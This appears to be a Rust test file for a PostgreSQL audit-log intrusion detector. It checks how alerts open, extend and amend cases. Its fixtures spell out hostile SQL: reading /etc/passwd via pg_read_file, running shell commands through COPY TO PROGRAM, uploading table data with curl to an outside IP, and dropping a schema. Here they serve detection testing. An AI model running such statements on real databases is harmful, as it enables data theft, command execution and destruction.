//! What a case tells as it grows: what is new to it, once, and how what was left open ended.

mod support;

use event::Alert;
use event::alert::Severity;
use event::vocabulary::{CaseChange, Outcome};

use support::{DAY, HOUR, MINUTE, Stream, detector, observe};

const FILE_READ: &str = "do $$ begin perform pg_read_file('/etc/passwd'); end $$";

fn of(alerts: &[Alert], change: CaseChange) -> Vec<&Alert> {
    alerts.iter().filter(|alert| alert.change == change).collect()
}

/// pgaudit writes the row of a DO block before it runs; the server's error is a row of its own.
fn run_and_refuse(stream: &mut Stream, after: i64, number: i64) {
    let row = stream.run(after, "DO", FILE_READ);
    (row.outcome, row.statement_number) = (Outcome::Unknown, Some(number));
    let error = stream.run(after + 1_000, "DO", FILE_READ);
    (error.outcome, error.statement_number) = (Outcome::Denied, Some(number));
    error.error = Some(("42501", "permission denied for function pg_read_file".into()));
}

#[test]
fn what_the_log_leaves_open_may_have_happened() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    stream.run(0, "DO", FILE_READ).outcome = Outcome::Unknown;
    let observed = observe(&mut detector(), &stream);
    let texts = &observed.alerts[0].explanation;
    assert!(texts.manager.starts_with("bo may have read a file"), "{}", texts.manager);
    assert!(texts.engineer.ends_with("(outcome unknown)"), "{}", texts.engineer);
}

#[test]
fn an_error_amends_what_was_left_open() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    run_and_refuse(&mut stream, 0, 7);
    let observed = observe(&mut detector(), &stream);
    let changes: Vec<_> = observed.alerts.iter().map(|alert| alert.change).collect();
    assert_eq!(changes, [CaseChange::Opened, CaseChange::Amended], "{:#?}", observed.alerts);
    let [opened, amended] = &observed.alerts[..] else { unreachable!() };
    assert_eq!((amended.case_id, &amended.rule), (opened.case_id, &opened.rule));
    assert_eq!(amended.title, format!("{}: refused", opened.title));
    assert!(amended.explanation.manager.contains("refused the statement of bo"));
    assert!(amended.explanation.engineer.contains("42501: permission denied for function"));
    let case = &observed.cases[0];
    assert!(case.explanation.manager.ends_with("The database then refused it."), "{case:#?}");
    assert_eq!((observed.cases.len(), case.signals), (1, 1), "one act");
}

#[test]
fn an_error_of_another_statement_amends_nothing() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    run_and_refuse(&mut stream, 0, 7);
    let row = stream.run(MINUTE, "COPY", "copy t from program 'id'");
    (row.outcome, row.statement_number) = (Outcome::Unknown, Some(8));
    let error = stream.run(MINUTE + 1_000, "SELECT", "select 1 / 0");
    (error.outcome, error.statement_number) = (Outcome::Failed, Some(9));
    let observed = observe(&mut detector(), &stream);
    assert_eq!(of(&observed.alerts, CaseChange::Amended).len(), 1, "{:#?}", observed.alerts);
    let case = observed.cases.iter().find(|case| case.rule == "D01").expect("the graver one");
    assert!(case.explanation.manager.contains("may have made"), "{case:#?}");
}

/// A statement that is told of before a restart is settled after it.
#[test]
fn what_is_left_open_outlives_a_restart() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    run_and_refuse(&mut stream, 0, 7);
    let mut one = detector();
    let (first, second) = stream.split(1);
    let mut alerts = observe(&mut one, &first).alerts;
    let rules = detect::RuleSet::builtin().expect("the built-in rules load");
    let settings = detect::DetectSettings::default();
    let mut two = detect::Detector::restore(&settings, rules, &one.snapshot()).expect("ours");
    alerts.extend(observe(&mut two, &second).alerts);
    assert_eq!(of(&alerts, CaseChange::Amended).len(), 1, "{alerts:#?}");
}

/// A service leaves what is usual in several ways within a day; each is told once.
#[test]
fn what_joins_an_unusual_day_is_told_alone() {
    let mut detector = detector();
    for day in 0..30 {
        let mut stream = Stream::new("billing", "10.0.1.5", "billing");
        for quarter in 0..96 {
            let sql = "select amount from app.invoices where id = 1";
            stream.run(day * DAY + quarter * 15 * MINUTE, "SELECT", sql);
        }
        assert_eq!(observe(&mut detector, &stream).alerts, []);
    }
    let mut first = Stream::new("billing", "10.9.9.9", "billing");
    first.run(30 * DAY + HOUR, "SELECT", "select iban from hr.accounts where id = 1");
    let mut second = Stream::new("billing", "10.0.1.5", "dbeaver");
    second.run(30 * DAY + 2 * HOUR, "SELECT", "select amount from app.invoices where id = 1");
    let mut alerts = observe(&mut detector, &first).alerts;
    alerts.extend(observe(&mut detector, &second).alerts);
    let [opened, extended] = &alerts[..] else { panic!("{alerts:#?}") };
    assert_eq!((opened.change, extended.change), (CaseChange::Opened, CaseChange::Extended));
    assert_eq!(opened.title, "New table and network for billing");
    assert_eq!(extended.title, "New application for billing");
    assert_eq!(opened.severity, Severity::High);
    let texts = &extended.explanation;
    assert!(texts.engineer.contains("`dbeaver`") && !texts.engineer.contains("10.9.9.0/24"));
    assert_eq!(texts.observed.len(), 1, "{:?}", texts.observed);
}

/// A function runs two programs: the second is not hidden behind the first, nor counted twice.
#[test]
fn every_cause_of_one_statement_joins() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    let inner = [
        "copy t to program '/opt/etl/pack.sh'",
        "copy t to program 'curl -T - https://198.51.100.9'",
        "copy t to program '/opt/etl/pack.sh'",
    ];
    for (after, sql) in (0..).zip(inner) {
        stream.run(after, "COPY", sql).statement_number = Some(4);
    }
    let observed = observe(&mut detector(), &stream);
    let changes: Vec<_> = observed.alerts.iter().map(|alert| alert.change).collect();
    assert_eq!(changes, [CaseChange::Opened, CaseChange::Extended], "{:#?}", observed.alerts);
    let case = &observed.cases[0];
    assert_eq!((case.signals, case.causes_total), (2, 2), "{case:#?}");
}

/// What was only seen as minor before is told when the same statement does worse.
#[test]
fn a_graver_part_of_one_statement_is_told() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    stream.run(0, "DROP TABLE", "drop table app.a").statement_number = Some(4);
    stream.run(1, "DROP SCHEMA", "drop schema app cascade").statement_number = Some(4);
    stream.run(2, "DROP TABLE", "drop table app.b").statement_number = Some(4);
    let observed = observe(&mut detector(), &stream);
    let worst = observed.alerts.iter().map(|alert| alert.severity).max();
    assert_eq!(observed.cases.iter().map(|case| case.severity).max(), worst);
    assert_eq!(worst, Some(Severity::Critical), "{:#?}", observed.alerts);
}

/// Three hundred files are read, then a program runs: the list of causes keeps what is graver.
#[test]
fn a_full_list_of_causes_makes_room_for_a_graver_one() {
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    for number in 0..300 {
        let sql = format!("select pg_read_file('/srv/{number}')");
        stream.run(number * 1_000, "SELECT", &sql);
    }
    stream.run(HOUR, "COPY", "copy t to program 'id'");
    for number in 0..300 {
        let sql = format!("select pg_read_file('/srv/{number}')");
        stream.run(HOUR + MINUTE + number * 1_000, "SELECT", &sql);
    }
    let observed = observe(&mut detector(), &stream);
    let [case] = &observed.cases[..] else { panic!("{:#?}", observed.cases) };
    assert_eq!((case.signals, case.causes_total, case.causes.len()), (601, 301, 64));
    let counts: Vec<_> = case.causes.iter().map(|it| (it.rule.as_str(), it.signals)).collect();
    assert_eq!(counts[..63], [("D02", 2); 63], "the oldest stay");
    assert_eq!(counts[63], ("D01", 1));
}
